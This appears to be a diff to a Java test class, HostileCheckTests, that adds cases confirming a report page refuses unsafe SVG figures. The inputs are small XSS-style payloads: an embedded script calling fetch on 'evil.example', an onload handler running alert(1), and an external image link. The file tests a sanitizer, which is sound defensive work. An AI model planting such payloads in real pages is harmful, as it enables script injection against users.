@@ -50,6 +50,23 @@ class HostileCheckTests {
     }
   }
 
+  private record Drawn(String figure) implements Finding {
+    @Override
+    public String kind() {
+      return "drawn";
+    }
+
+    @Override
+    public Resolution resolution() {
+      return Resolution.WARNING;
+    }
+
+    @Override
+    public Rendering render() {
+      return Rendering.of("drawn").figure(figure);
+    }
+  }
+
   private static Object selfContaining() {
     List<Object> list = new ArrayList<>();
     list.add(list);
@@ -103,6 +120,15 @@ class HostileCheckTests {
             throw new NoClassDefFoundError("com/acme/Segments");
           }
         })), "its finding could not be shown: NoClassDefFoundError (\"com/acme/Segments\")."),
+        Arguments.of("a figure with a script", Check.of("scripted", c -> List.of(new Drawn(
+            "<svg><script>fetch('https://evil.example')</script></svg>"))), "its 'drawn' finding's figure cannot go on "
+            + "the report page: it contains '<script'."),
+        Arguments.of("a figure with an event handler", Check.of("handler", c -> List.of(new Drawn(
+            "<svg><rect onload = \"alert(1)\"/></svg>"))), "it has an event handler attribute"),
+        Arguments.of("a figure that is not one svg", Check.of("html", c -> List.of(new Drawn(
+            "<div>chart</div>"))), "it is not one <svg> element"),
+        Arguments.of("a figure with an external image", Check.of("external", c -> List.of(new Drawn(
+            "<svg><image href=\"http://cdn.example/x.png\"/></svg>"))), "it contains '<image'"),
         Arguments.of("evidence that contains itself", Check.of("cyclic", c -> List.of(
             new Odd("cyclic-evidence", Map.of("rows", selfContaining())))), "nests deeper than 32 levels"),
         Arguments.of("evidence that cannot print itself", Check.of("mute", c -> List.of(
